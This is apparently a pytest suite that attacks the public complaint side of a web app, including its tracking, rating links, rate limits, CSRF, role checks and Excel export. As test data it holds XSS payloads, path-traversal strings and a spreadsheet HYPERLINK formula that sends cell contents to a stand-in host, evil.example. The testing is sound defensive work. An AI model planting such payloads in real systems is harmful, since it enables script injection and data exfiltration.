"""Attacks on the public complaint side (issue 13), each as a test, run with
real HTTP requests against the app (the ``api`` fixture, or an app behind a trusted proxy).
Four were findings of a review and failed before their fix (one IPv6 /64 as one client, a
mapped IPv4 address, the direction marks, a deadline years away); the others held from the start."""

from __future__ import annotations

import io
import re
from collections.abc import AsyncIterator
from typing import Any

import httpx
import openpyxl
import pytest

from api.settings import Settings
from tests.api.conftest import Api, answered_complaint, behind_proxy, client_from, route_complaint

CONTACT = "whistle.reviewer@mail.example"
TEXT = "秘密内容：施工队长张三收受好处费"
BODY = {"title": "站台破损", "kind": "投诉", "text": TEXT, "contact": CONTACT}
XSS = "<script>alert(1)</script><img src=x onerror=alert(2)>"


async def _file(client: httpx.AsyncClient, **changes: Any) -> httpx.Response:
    return await client.post("/api/complaints", json={**BODY, **changes})


_route = route_complaint


async def _answered(api: Api, **changes: Any) -> dict[str, Any]:
    return await answered_complaint(api, {**BODY, **changes}, "已处理")


# ------------------------------------------------------------------ leaks of contact and text


async def test_contact_and_text_reach_no_one_but_office_and_the_unit(api: Api) -> None:
    """Filed about P002 (routed to water): the owner (transport), the public page and its JSON,
    the tracking page and API, the rating page, the leader's exports, the unit's exports and the
    audit list hold neither the contact; the text only the office, leader and water read."""
    filed = (await _file(api.client, project="P002")).json()
    code = filed["code"]
    public = [await api.client.get(p) for p in (
        "/public", "/api/public", f"/public/track?code={code}", f"/api/complaints/track/{code}",
        f"/public/rate?code={code}&key={filed['secret']}")]
    for r in public:
        assert r.status_code == 200, (r.url, r.status_code)
        assert CONTACT not in r.text and TEXT not in r.text, r.url
    for role in ("leader", "owner", "unit"):
        for path in ("/api/portfolio", "/api/complaints", f"/api/complaints/{code}", "/complaints",
                     "/api/audit", "/api/notices"):
            r = await api.client.get(path, headers=api.auth(role))
            assert CONTACT not in r.text, (role, path)
            if role == "owner":
                assert TEXT not in r.text, (role, path)
        xlsx = await api.client.get("/api/portfolio.xlsx", headers=api.auth(role))
        assert xlsx.status_code == 200
        wb = openpyxl.load_workbook(io.BytesIO(xlsx.content))
        cells = " ".join(str(c.value) for ws in wb for row in ws.iter_rows() for c in row if c.value)
        assert CONTACT not in cells, role
    audit = await api.client.get("/api/audit", headers=api.auth("office"))
    assert CONTACT not in audit.text and TEXT not in audit.text


async def test_error_messages_do_not_echo_the_contact(api: Api) -> None:
    """A refused filing (bad title) keeps the contact out of the API's error message."""
    r = await _file(api.client, title="")
    assert r.status_code == 422 and CONTACT not in r.text


# ------------------------------------------------------------------ rating link


async def test_rating_link_forged_reused_or_foreign_changes_nothing(api: Api) -> None:
    a, b = await _answered(api), await _answered(api)

    async def rate(code: str, secret: Any, rating: Any = "dissatisfied") -> httpx.Response:
        return await api.client.post(f"/api/complaints/track/{code}/rating", json={"secret": secret, "rating": rating})

    for secret in (b["secret"], a["secret"].upper(), a["secret"] + " ", " " + a["secret"], "x" * 201,
                   a["secret"][:-1]):
        assert (await rate(a["code"], secret)).status_code == 404, secret
    # the code as people type it: lower case and spaces are the same complaint
    r = await rate(" " + a["code"].lower() + " ", a["secret"], "满意")
    assert r.status_code == 201, r.text
    assert (await rate(a["code"], a["secret"], "不满意")).status_code == 409
    # via the form as well
    page = await api.client.post("/public/rate", data={"code": a["code"], "key": a["secret"], "rating": "dissatisfied"})
    assert page.status_code in (403, 409)
    tracked = (await api.client.get(f"/api/complaints/track/{a['code']}")).json()
    assert tracked["rating"] == "satisfied"
    assert (await api.client.get(f"/api/complaints/track/{b['code']}")).json()["rating"] is None


async def test_rating_with_wrong_types_is_refused_not_500(api: Api) -> None:
    a = await _answered(api)
    for body in ({"secret": 123, "rating": "satisfied"}, {"secret": a["secret"], "rating": ["satisfied"]},
                 {"secret": None, "rating": None}, [], "x", {"secret": {"$ne": ""}}):
        r = await api.client.post(f"/api/complaints/track/{a['code']}/rating", json=body)
        assert 400 <= r.status_code < 500, (body, r.status_code, r.text)
    r = await api.client.post(f"/api/complaints/track/{a['code']}/rating", json={"secret": a["secret"], "rating": "5"})
    assert r.status_code in (400, 422)
    assert (await api.client.get(f"/api/complaints/track/{a['code']}")).json()["rating"] is None


def test_codes_and_secrets_are_not_guessable() -> None:
    """The tracking code has 8 random letters of 31 (about 40 bits), the secret 192 bits."""
    from projects.complaint_store import _CODE_LETTERS, new_code  # noqa: PLC0415

    codes = {new_code(2026) for _ in range(2000)}
    assert len(codes) == 2000
    assert all(re.fullmatch(r"C-2026-[2-9A-HJKMNP-Z]{4}-[2-9A-HJKMNP-Z]{4}", c) for c in codes)
    assert len(_CODE_LETTERS) ** 8 > 2 ** 39


async def test_a_tracking_code_reveals_no_people(api: Api) -> None:
    """What a code reveals: state, unit, deadline, answer, title; never who answered or routed."""
    a = await _answered(api)
    r = await api.client.get(f"/api/complaints/track/{a['code']}")
    assert set(r.json()) <= {"code", "title", "kind", "state", "received", "unit", "unit_name", "due",
                             "responded", "answer", "rating", "rated"}
    assert "routed_by" not in r.json() and "answered_by" not in r.json()
    for bad in ("C-2026-XXXX-XXXX", "%00", "..%2F..%2Fapi", "x" * 5000, "C-2026-%E2%80%AE"):
        r = await api.client.get(f"/api/complaints/track/{bad}")
        assert r.status_code in (404, 400), (bad, r.status_code)
        r = await api.client.get(f"/public/track?code={bad}")
        assert r.status_code in (404, 400), (bad, r.status_code)


# ------------------------------------------------------------------ the hourly bound


@pytest.fixture
async def bounded(settings: Settings) -> AsyncIterator[Any]:
    """Two an hour per address, behind a trusted proxy 10.0.0.1."""
    async with behind_proxy(settings, per_hour=2) as app:
        yield app


async def test_untrusted_forwarded_for_does_not_bypass_the_bound(bounded: Any) -> None:
    async with client_from(bounded, "203.0.113.5") as c:
        for i in range(2):
            assert (await _file(c, title=f"{i}")).status_code == 201
        for xff in ("198.51.100.1", "10.0.0.1", "198.51.100.2, 10.0.0.1", "garbage"):
            r = await c.post("/api/complaints", json=BODY, headers={"x-forwarded-for": xff})
            assert r.status_code == 429, xff
        r = await c.post("/public/complaints", data=BODY, headers={"x-forwarded-for": "198.51.100.3"})
        assert r.status_code in (403, 429)


async def test_ipv4_mapped_ipv6_is_the_same_address(bounded: Any) -> None:
    """Through the trusted proxy, 198.51.100.7 and ::ffff:198.51.100.7 are one client."""
    async with client_from(bounded, "10.0.0.1") as c:
        for _ in range(2):
            assert (await c.post("/api/complaints", json=BODY,
                                 headers={"x-forwarded-for": "198.51.100.7"})).status_code == 201
        for xff in ("::ffff:198.51.100.7", "[::ffff:198.51.100.7]:1234", "198.51.100.7:9999"):
            r = await c.post("/api/complaints", json=BODY, headers={"x-forwarded-for": xff})
            assert r.status_code == 429, xff


async def test_one_ipv6_subnet_is_bounded_as_oneclient_from(bounded: Any) -> None:
    """One household or VPS holds a whole IPv6 /64 (2^64 addresses): rotating the last bits must
    not reset the hourly bound."""
    statuses = []
    for n in range(1, 6):
        async with client_from(bounded, f"2001:db8:1:2::{n:x}") as c:
            statuses.append((await _file(c, title=f"v6 {n}")).status_code)
    assert statuses.count(201) <= 2, statuses


# ------------------------------------------------------------------ bodies and characters


async def test_malformed_bodies_never_500(api: Api) -> None:
    code = (await _file(api.client)).json()["code"]
    bodies: list[Any] = [[], "x", 1, None, {"title": 1, "text": 2, "contact": 3}, {"title": ["a"]},
                         {"title": {"a": 1}}, {"kind": 5}, {"project": 7}, {"contact": True},
                         {**BODY, "project": ""}, {**BODY, "extra": "x" * 10}]
    for body in bodies:
        r = await api.client.post("/api/complaints", json=body)
        assert r.status_code < 500, (body, r.status_code, r.text)
    for raw in (b"{", b"\xff\xfe", b'{"title": "\\ud800"}', b"[" * 5000, b'{"title":"a"' + b"}" * 3):
        r = await api.client.post("/api/complaints", content=raw, headers={"content-type": "application/json"})
        assert r.status_code < 500, (raw[:20], r.status_code, r.text)
    for body in ([], {"unit": 5}, {"unit": "water", "due": "soon"}, {"unit": "water", "due": 20260601},
                 {"unit": None}, {"unit": "water", "due": "2026-02-30"}):
        r = await api.client.post(f"/api/complaints/{code}/route", json=body, headers=api.auth("office"))
        assert r.status_code < 500, (body, r.status_code, r.text)
    for body in ([], {"text": 5}, {"text": None}, {"text": ["a"]}):
        r = await api.client.post(f"/api/complaints/{code}/answer", json=body, headers=api.auth("unit"))
        assert r.status_code < 500, (body, r.status_code, r.text)
    for data in ({"title": "a"}, {}, {"kind": "x" * 100000}):
        r = await api.client.post("/public/complaints", data=data)
        assert r.status_code < 500, (data, r.status_code)
    r = await api.client.post("/public/rate", data={"code": "x", "key": "y", "rating": "satisfied"})
    assert r.status_code < 500


async def test_oversize_bodies_are_refused(api: Api) -> None:
    big = {**BODY, "text": "字" * 30000}
    r = await api.client.post("/api/complaints", json=big)
    assert r.status_code == 413, r.status_code
    r = await api.client.post("/api/complaints", content=b'{"title":"' + b"a" * 70000 + b'"}',
                              headers={"content-type": "application/json", "transfer-encoding": "chunked"})
    assert r.status_code == 413, r.status_code
    listed = await api.client.get("/api/complaints", headers=api.auth("office"))
    assert listed.json() == []


@pytest.mark.parametrize("bad", ["\u202e", "\u2066", "\x00", "\x1b[31m", "\x7f"])
async def test_control_and_bidi_characters_are_refused(api: Api, bad: str) -> None:
    for field in ("title", "text"):
        r = await _file(api.client, **{field: f"a{bad}b"})
        assert r.status_code in (400, 422), (field, repr(bad), r.status_code)
    code = (await _file(api.client, project="P002")).json()["code"]
    r = await api.client.post(f"/api/complaints/{code}/answer", json={"text": f"ok{bad}x"}, headers=api.auth("unit"))
    assert r.status_code in (400, 422), (repr(bad), r.status_code)


@pytest.mark.parametrize("bad", ["\u200e", "\u200f", "\u061c"])
async def test_bidi_marks_are_refused_too(api: Api, bad: str) -> None:
    """U+200E/U+200F/U+061C are Unicode Bidi_Control characters (like U+202A..U+202E and
    U+2066..U+2069) and reorder neutral text such as codes and phone numbers; the docs promise
    bidirectional control characters are refused, but these are stored."""
    for field in ("title", "text"):
        r = await _file(api.client, **{field: f"a{bad}b"})
        assert r.status_code in (400, 422), (field, repr(bad), r.status_code)


async def test_html_in_text_is_escaped_on_every_page(api: Api) -> None:
    filed = (await _file(api.client, title=XSS, text=XSS, project="P002")).json()
    r = await api.client.post(f"/api/complaints/{filed['code']}/answer", json={"text": XSS}, headers=api.auth("unit"))
    assert r.status_code == 201, r.text
    pages = [await api.client.get("/complaints", headers=api.auth(role)) for role in ("office", "leader", "unit")]
    pages += [await api.client.get(f"/public/track?code={filed['code']}"),
              await api.client.get(f"/public/rate?code={filed['code']}&key={filed['secret']}"),
              await api.client.get("/public"),
              await api.client.get(f"/public/rate?code={filed['code']}&key=%22%3E%3Cscript%3Ex%3C/script%3E"),
              await api.client.get("/complaints?error=%3Cscript%3Ealert(3)%3C/script%3E", headers=api.auth("office")),
              await api.client.get("/complaints?done=%22%3E%3Cscript%3Ealert(4)%3C/script%3E", headers=api.auth("office"))]
    for p in pages:
        assert "<script>alert" not in p.text and "<img src=x" not in p.text and "<script>x" not in p.text, p.url
    for role in ("office", "leader"):
        for path in ("/", "/dashboard", "/findings", "/notices", "/units/water", "/accountability"):
            r = await api.client.get(path, headers=api.auth(role))
            assert "<script>alert" not in r.text and "<img src=x" not in r.text, (role, path)


async def test_no_formula_in_the_excel_export_of_complaints(api: Api) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    filed = (await _file(api.client, title=formula, project="P002")).json()
    assert filed["code"]
    for role in ("office", "leader", "unit"):
        r = await api.client.get("/api/portfolio.xlsx", headers=api.auth(role))
        wb = openpyxl.load_workbook(io.BytesIO(r.content))
        found = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
        # the workbook carries no complaint sheet; any complaint text in it must be a string cell
        assert all(c.data_type == "s" for c in found), role


# ------------------------------------------------------------------ CSRF


async def test_the_anonymous_form_and_the_rating_form_need_the_csrf_token(api: Api) -> None:
    a = await _answered(api)
    r = await api.client.post("/public/complaints", data=BODY)
    assert r.status_code == 403, r.status_code
    r = await api.client.post("/public/rate", data={"code": a["code"], "key": a["secret"], "rating": "dissatisfied"})
    assert r.status_code == 403, r.status_code
    assert (await api.client.get(f"/api/complaints/track/{a['code']}")).json()["rating"] is None
    for ctype in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                  "application/json-x", "application/jsonp", "text/json"):
        r = await api.client.post("/api/complaints", content=b'{"title":"t","text":"t","contact":"a@b.cn"}',
                                  headers={"content-type": ctype})
        assert r.status_code == 415, (ctype, r.status_code)
    r = await api.client.post(f"/api/complaints/track/{a['code']}/rating",
                              content=f'{{"secret":"{a["secret"]}","rating":"dissatisfied"}}'.encode(),
                              headers={"content-type": "text/plain"})
    assert r.status_code == 415


# ------------------------------------------------------------------ who routes and answers


async def test_a_unit_neither_routes_nor_answers_another_units_complaint(api: Api) -> None:
    mine = (await _file(api.client, project="P001")).json()["code"]  # transport's
    for role in ("unit", "owner", "leader"):
        r = await api.client.post(f"/api/complaints/{mine}/route", json={"unit": "water"}, headers=api.auth(role))
        assert r.status_code == 403, (role, r.status_code)
        r = await api.client.post(f"/complaints/{mine}/route", data={"unit": "water"}, headers=api.auth(role))
        assert r.status_code == 403 or "done=" not in r.headers.get("location", ""), role
    r = await api.client.post(f"/api/complaints/{mine}/answer", json={"text": "不是我"}, headers=api.auth("unit"))
    assert r.status_code == 403 and TEXT not in r.text and CONTACT not in r.text
    r = await api.client.post(f"/api/complaints/{mine}/answer", json={"text": "x"}, headers=api.auth("leader"))
    assert r.status_code == 403
    r = await api.client.post(f"/api/complaints/{mine}/answer", json={"text": "x"})
    assert r.status_code == 401
    got = (await api.client.get(f"/api/complaints/{mine}", headers=api.auth("office"))).json()
    assert got["unit"] == "transport" and got["responded"] is None


async def test_the_routing_deadline_is_neither_past_nor_absurd(api: Api) -> None:
    code = (await _file(api.client)).json()["code"]
    r = await _route(api, code, due="2026-05-05")
    assert r.status_code in (400, 422), r.status_code
    r = await _route(api, code, due="9999-12-31")
    assert r.status_code in (400, 422), ("a deadline in year 9999 is accepted", r.status_code, r.text)
    r = await api.client.post(f"/complaints/{code}/route", data={"unit": "water", "due": "9999-12-31"},
                              headers=api.auth("office"))
    got = (await api.client.get(f"/api/complaints/{code}", headers=api.auth("office"))).json()
    assert got["due"] != "9999-12-31", got


async def test_an_absurd_deadline_breaks_no_page(api: Api) -> None:
    code = (await _file(api.client)).json()["code"]
    await _route(api, code, due="9999-12-31")
    for path in ("/public", "/api/public", f"/api/complaints/track/{code}", f"/public/track?code={code}"):
        assert (await api.client.get(path)).status_code < 500, path
    for path in ("/", "/complaints", "/api/portfolio", "/api/portfolio.xlsx", "/dashboard"):
        assert (await api.client.get(path, headers=api.auth("office"))).status_code < 500, path


async def test_concurrent_ratings_keep_one(api: Api) -> None:
    """Ten ratings through one link at once: one is kept, nine refused 409."""
    import asyncio  # noqa: PLC0415

    a = await _answered(api)
    got = await asyncio.gather(*[api.client.post(f"/api/complaints/track/{a['code']}/rating",
                                                 json={"secret": a["secret"], "rating": r})
                                 for r in ["satisfied", "dissatisfied"] * 5])
    assert sorted(r.status_code for r in got) == [201] + [409] * 9


async def test_concurrent_filings_do_not_race_past_the_bound(bounded: Any) -> None:
    """Eight filings at once from one address with a bound of two: two are stored."""
    import asyncio  # noqa: PLC0415

    async with client_from(bounded, "203.0.113.77") as c:
        filed = await asyncio.gather(*[_file(c, title=f"race {i}") for i in range(8)])
    assert sorted(r.status_code for r in filed) == [201] * 2 + [429] * 6
